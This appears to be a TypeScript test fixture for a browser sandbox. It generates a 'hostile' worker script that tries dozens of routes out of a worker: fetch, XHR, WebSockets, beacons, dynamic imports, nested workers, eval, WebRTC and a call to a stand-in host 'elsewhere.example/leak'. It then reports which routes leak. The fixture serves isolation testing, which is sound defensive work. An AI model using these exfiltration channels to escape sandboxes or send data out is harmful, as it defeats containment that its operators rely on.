import type { Listening } from "./servers.ts";

/** Whom a hostile script tries to reach. */
export interface Targets {
  readonly site: Listening;
  readonly stranger: Listening;
  readonly datagrams: Listening;
}

/** Ways out that workers and frames share, as the body of an object; `S` is the stranger, `O` the site, `D` takes datagrams. */
export const sharedAttempts = `
  fetchStranger: () => fetch(S + "/fetch"),
  fetchNoCors: () => fetch(S + "/no-cors", { mode: "no-cors" }),
  fetchSite: () => fetch(O + "/leak-fetch"),
  fetchInternet: () => fetch("http://elsewhere.example/leak", { mode: "no-cors" }),
  fetchKeepalive: () => fetch(S + "/keepalive", { method: "POST", body: "x", keepalive: true, mode: "no-cors" }),
  fetchLater: () => { fetchLater(S + "/later", { activateAfter: 0 }); throw new Error("said nothing"); },
  xhr: () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.open("GET", S + "/xhr"); x.onload = done; x.onerror = failed; x.send(); }),
  xhrSite: () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.open("GET", O + "/leak-xhr"); x.onload = done; x.onerror = failed; x.send(); }),
  webSocket: () => new Promise((done, failed) => { const s = new WebSocket(S.replace("http", "ws") + "/socket"); s.onopen = done; s.onerror = failed; }),
  webSocketStream: async () => { await new WebSocketStream(S.replace("http", "ws") + "/stream").opened; },
  eventSource: () => new Promise((done, failed) => { const s = new EventSource(S + "/events"); s.onopen = done; s.onerror = failed; }),
  webTransport: async () => { const t = new WebTransport(D + "/transport"); await t.ready; },
  dynamicImport: () => import(S + "/module.js"),
  dynamicImportSite: () => import(O + "/theme.js"),
  dataImport: () => import("data:text/javascript,export default 1"),
  beacon: () => { navigator.sendBeacon(S + "/beacon", "x"); throw new Error("said nothing"); },
  font: () => new FontFace("x", "url(" + S + "/font.woff2)").load(),
  nestedWorker: () => answers(new Worker(S + "/worker.js")),
  nestedSiteWorker: () => answers(new Worker(O + "/leak-worker.js")),
  nestedBlob: () => answers(new Worker(blob("fetch('" + S + "/nested-blob').then(() => postMessage(1)); fetch('" + O + "/leak-nested')"))),
  nestedData: () => answers(new Worker("data:text/javascript,fetch('" + S + "/nested-data').then(() => postMessage(1))")),
  sharedWorker: () => answers(new SharedWorker(S + "/shared.js").port),
  sharedBlob: () => answers(new SharedWorker(blob("fetch('" + S + "/shared-blob')")).port),
  cacheAdd: async () => { const c = await caches.open("x"); await c.add(S + "/cache"); },
  indexedDB: () => new Promise((done, failed) => { const r = indexedDB.open("leak"); r.onsuccess = done; r.onerror = failed; }),
  fileSystem: () => navigator.storage.getDirectory(),
  cookieStore: () => cookieStore.set("leak", "1"),
  evaluate: () => (0, eval)("fetch('" + S + "/eval')"),
  newFunction: () => new Function("return fetch('" + S + "/function')")(),
  timeoutText: async () => { setTimeout("fetch('" + S + "/timeout')"); await new Promise((done) => setTimeout(done, 200)); throw new Error("nothing happened that could be seen from here"); },
  webRtc: () => new Promise((done, failed) => {
    const c = new RTCPeerConnection({ iceServers: [{ urls: D.replace("https://", "stun:") }] });
    c.createDataChannel("x"); c.onicecandidate = (event) => { if (!event.candidate) failed(new Error("no answer")); };
    c.createOffer().then((offer) => c.setLocalDescription(offer), failed);
  }),
`;

/** What both kinds of hostile script need: who is who, and a way to try everything and say what came of it. */
export const preamble = ({ site, stranger, datagrams }: Targets): string => `
const [O, S, D] = ${JSON.stringify([site.origin, stranger.origin, datagrams.origin])};
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const answers = (port) => new Promise((done, failed) => { port.onmessage = done; port.onerror = failed; });
const limited = (promise) => Promise.race([promise, new Promise((_, failed) => setTimeout(() => failed(new Error("no answer")), 2000))]);
async function tryAll(attempts) {
  const out = {};
  await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
    try { await limited((async () => attempt())()); out[name] = "LEAK"; }
    catch (error) { out[name] = String(error && error.message || error && error.type || error).slice(0, 40); }
  }));
  return out;
}
`;

/**
 * A hostile engine: asked to analyze, it tries every way out of a worker and answers with what each attempt gave. It
 * speaks enough of the protocol to put its answer on the page.
 */
export const hostileWorker = (targets: Targets): string => `${preamble(targets)}
const attempts = {
  ${sharedAttempts}
  importScripts: () => importScripts(S + "/import-scripts.js"),
  importScriptsSite: () => importScripts(O + "/theme.js"),
  importData: () => importScripts("data:text/javascript,fetch('" + S + "/import-data')"),
};
onmessage = (event) => {
  const port = event.ports[0];
  port.onmessage = async ({ data }) => {
    if (data.kind === "start") return port.postMessage({ kind: "ready" });
    if (data.kind === "classify") return port.postMessage({ kind: "kinds", id: data.id, kinds: data.files.map(() => "csharp") });
    try { new BroadcastChannel("leak").postMessage("LEAK"); } catch {}
    port.postMessage({ kind: "failed", id: data.id, reason: JSON.stringify(await tryAll(attempts)) });
  };
};
`;
